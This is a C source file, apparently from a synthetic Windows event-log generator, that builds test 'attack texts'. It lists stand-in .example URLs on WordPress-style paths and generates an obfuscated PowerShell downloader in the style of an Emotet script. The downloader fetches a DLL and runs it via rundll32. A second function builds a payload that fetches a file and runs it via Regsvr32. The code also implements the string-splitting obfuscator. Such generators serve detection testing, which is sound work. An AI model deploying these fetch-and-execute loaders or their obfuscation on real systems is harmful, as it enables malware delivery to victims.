/* SPDX-License-Identifier: Apache-2.0 */
/* Attack texts; see the header. */
#include "evtxgen/case_text.h"

#include <string.h>

#include "evtxgen/gen_buf.h"

/* Five of seven are WordPress paths, one is left by a WordPress migration plugin: the mix of the
 * script of 2020-12-30. */
const char *const sek_case_wave1_urls[SEK_CASE_WAVE1_URLS] = {
    "http://tsukimi-travel.example/wp-admin/lUZ4Ky/",     "http://hoshizora-cafe.example/wp-content/n9Ab/",
    "https://kawasemi-print.example/wp-includes/Qx8j2/",  "http://mizuho-garden.example/wp-admin/Y7tR/",
    "https://sakuragi-dental.example/wp-content/uN3fOe/", "http://norikura-ski.example/dup-installer/a0Vk/",
    "https://aoba-yoga.example/picture_library/bbCtlS/",
};

const char *const sek_case_wave2_urls[SEK_CASE_WAVE2_URLS] = {
    "https://kaede-kogei.example/wp-admin/8VvJq3dmYzH/",   "http://tomoe-denki.example/css/Aqm31z0/",
    "http://suzuran-nursery.example/wp-content/KzE7gTn/",  "https://minato-freight.example/cgi-bin/pW5bY/",
    "http://yoshino-sports.example/wp-includes/hW4oNHu2/", "https://asahi-kensetsu.example/images/Zq1CrbtV9/",
};

static char *base64_bytes(SekCaseArena *arena, const uint8_t *bytes, size_t n) {
    static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    char *text = sek_case_alloc(arena, (n + 2) / 3 * 4 + 1);
    char *p = text;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t group = (uint32_t)bytes[i] << 16;
        group |= i + 1 < n ? (uint32_t)bytes[i + 1] << 8 : 0;
        group |= i + 2 < n ? (uint32_t)bytes[i + 2] : 0;
        *p++ = digits[group >> 18];
        *p++ = digits[group >> 12 & 63];
        *p++ = i + 1 < n ? digits[group >> 6 & 63] : '=';
        *p++ = i + 2 < n ? digits[group & 63] : '=';
    }
    return text;
}

char *sek_case_base64(SekCaseArena *arena, const char *text) {
    return base64_bytes(arena, (const uint8_t *)text, strlen(text));
}

char *sek_case_base64_utf16(SekCaseArena *arena, const char *text) {
    SekGenBuf buf;
    sek_gen_buf_init(&buf, 1 << 20);
    sek_gen_put_utf16(&buf, text, strlen(text));
    char *out = base64_bytes(arena, buf.data, buf.len);
    sek_gen_buf_deinit(&buf);
    return out;
}

/* Writes `text` as a PowerShell expression of joined pieces, such as ('ht'+('tp'+':')+'//x'). */
static char *pieces(SekCaseArena *arena, SekCaseRng *rng, const char *text) {
    char *out = sek_case_alloc(arena, strlen(text) * 8 + 16);
    char *p = out;
    bool inner = false;
    *p++ = '(';
    for (size_t n = strlen(text), i = 0; i < n;) {
        size_t take = sek_case_between(rng, 2, 9);
        take = take > n - i ? n - i : take;
        bool opened = false;
        if (i) {
            *p++ = '+';
        }
        if (!inner && i && i + take < n && sek_case_chance(rng, 35)) {
            *p++ = '(';
            inner = opened = true;
        }
        *p++ = '\'';
        memcpy(p, text + i, take);
        p += take;
        *p++ = '\'';
        i += take;
        if (inner && !opened && (i == n || sek_case_chance(rng, 50))) {
            *p++ = ')';
            inner = false;
        }
    }
    if (inner) {
        *p++ = ')';
    }
    *p++ = ')';
    return out;
}

static char *joined_urls(SekCaseArena *arena) {
    /* "http" is kept apart as a mark that the script replaces, addresses are joined by @. */
    char *all = sek_case_fmt(arena, "%s", "");
    for (size_t i = 0; i < SEK_CASE_WAVE1_URLS; i++) {
        all = sek_case_fmt(arena, "%s%s]e1r[S%s", all, i ? "@" : "", sek_case_wave1_urls[i] + 4);
    }
    return all;
}

/* The script; <text> stands for that text as joined pieces, <@> for the addresses. */
static const char wave1_pattern[] =
    "  set-vaRiAblE 8ye ([tYPe](\"{1}{2}{0}{3}\"-F 'CT','sYStem.iO','.DiRE','ORY') ) ; "
    "sv (\"plT\") ([TYpe](\"{3}{0}{4}{2}{1}\"-f 'm.nET.SeRVi','eR','INtMaNAg','sysTE','CEPO') ) ; "
    "$ErrorActionPreference = <SilentlyContinue>;$Qv3kx0e=$B41R + [char](64) + $L59T;$X7_V=<Q5_N>; "
    "( gEt-vaRIAbLE 8ye ).vaLUE::\"Cr`EAT`EDirE`CTOrY\"($HOME + ((<kQwJxk4jr_kQwDhuljgzkQw>)"
    "-CrePLaCE 'kQw',[cHAr]92));$J2_C=<K38L>; "
    "( vAriAbLE plt ).vaLuE::\"SecU`RITYp`ROtO`COL\" = <Tls12>;$T65H=<A1_Z>;"
    "$Ggx4mvk = <D71J>;$W8_Q=<C96X>;$Zfy1h2d=$HOME+((<kQwJxk4jr_kQwDhuljgzkQw>)-rEplAce "
    "'kQw',[cHAr]92)+$Ggx4mvk+<.dll>;$N07U=<V5_D>;"
    "$Pd0vz1s=<@>.\"REp`LACe\"(<]e1r[S>,<http>).\"SPl`IT\"([cHaR]64);$O9_K=<R47B>;"
    "foreach ($Mi7w4lq in $Pd0vz1s){try{(.(<New-Object>) sYsTEm.nEt.wEBcLIeNt)."
    "\"DOw`NLO`AdfI`LE\"($Mi7w4lq, $Zfy1h2d);"
    "$H24O=<G2_S>;If ((&(<Get-Item>) $Zfy1h2d).\"LEN`gTh\" -ge 37992) {&(<rundll32>) $Zfy1h2d,"
    "(<Control_RunDLL>).\"TOst`RinG\"();$U3_R=<Y8_I>;break;$S1_A=<F3_T>}}catch{}}$E46Y=<K72P>";

char *sek_case_wave1_script(SekCaseArena *arena) {
    SekCaseRng rng = sek_case_rng(20201222, "script");
    char *out = sek_case_fmt(arena, "%s", "");
    for (const char *p = wave1_pattern; *p;) {
        size_t n = strcspn(p, "<");
        const char *mark = p + n;
        size_t inner = *mark ? strcspn(mark, ">") - 1 : 0;
        const char *text = sek_case_fmt(arena, "%.*s", (int)inner, mark + (*mark == '<'));
        const char *joined = strcmp(text, "@") == 0 ? joined_urls(arena) : text;
        out = sek_case_fmt(arena, "%s%.*s%s", out, (int)n, p, *mark ? pieces(arena, &rng, joined) : "");
        p = *mark ? mark + inner + 2 : mark;
    }
    return out;
}

char *sek_case_wave2_script(SekCaseArena *arena) {
    char *links = sek_case_fmt(arena, "%s", "");
    for (size_t i = 0; i < SEK_CASE_WAVE2_URLS; i++) {
        links = sek_case_fmt(arena, "%s%s\"%s\"", links, i ? "," : "", sek_case_wave2_urls[i]);
    }
    return sek_case_fmt(arena,
                        "$ProgressPreference=\"SilentlyContinue\";$links=(%s);"
                        "foreach ($u in $links) {try {IWR $u -OutFile $env:TEMP/LqwxbPrZJz.LMo;"
                        "Regsvr32.exe $env:TEMP/LqwxbPrZJz.LMo;break} catch { }}",
                        links);
}

char *sek_case_url_host(SekCaseArena *arena, const char *url) {
    const char *start = strstr(url, "//");
    start = start ? start + 2 : url;
    return sek_case_fmt(arena, "%.*s", (int)strcspn(start, "/"), start);
}
